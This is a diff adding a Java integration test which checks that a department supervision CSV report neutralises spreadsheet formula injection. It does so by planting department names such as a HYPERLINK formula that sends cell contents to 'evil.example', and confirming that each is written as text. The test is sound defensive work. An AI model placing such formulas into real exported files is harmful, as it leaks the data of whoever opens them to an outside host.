@@ -145,6 +145,29 @@ class DepartmentSupervisionIT {
         assertThat(english).contains("Yearly credit work progress report,2019", "Rejection rate");
     }
 
+    /**
+     * A department named or coded like a formula is written as text (CSV injection, OWASP): a spreadsheet opening the
+     * report shows the name with a leading apostrophe and never runs it.
+     */
+    @Test
+    void aDepartmentNamedLikeAFormulaIsWrittenAsTextInTheCsv() throws Exception {
+        int n = ThreadLocalRandom.current().nextInt(100_000, 1_000_000);
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" + n;
+        directory.createDepartment("-SUPFX" + n, formula, Department.Kind.DATA_PROVIDER, List.of());
+        directory.createDepartment("SUPAT" + n, "@SUM(1+1)" + n, Department.Kind.DATA_PROVIDER, List.of());
+
+        String csv = new String(mvc.perform(request("/console/supervision/report.csv", "year", "2019"))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
+        List<List<String>> rows = org.apache.commons.csv.CSVParser.parse(csv.substring(1),
+                org.apache.commons.csv.CSVFormat.DEFAULT).getRecords().stream().map(r -> r.toList()).toList();
+        assertThat(rows).filteredOn(r -> r.size() > 1 && r.get(1).endsWith("SUPFX" + n)).singleElement()
+                .satisfies(r -> assertThat(r.subList(0, 2)).containsExactly("'" + formula, "'-SUPFX" + n));
+        assertThat(rows).filteredOn(r -> r.size() > 1 && r.get(1).equals("SUPAT" + n)).singleElement()
+                .satisfies(r -> assertThat(r.get(0)).isEqualTo("'@SUM(1+1)" + n));
+        assertThat(rows).as("no cell of the report starts a formula").allSatisfy(r -> assertThat(r)
+                .noneMatch(cell -> !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0));
+    }
+
     /** What the modules store for {@code busy} in March 2019. */
     private void deliver() {
         jdbc.sql("""
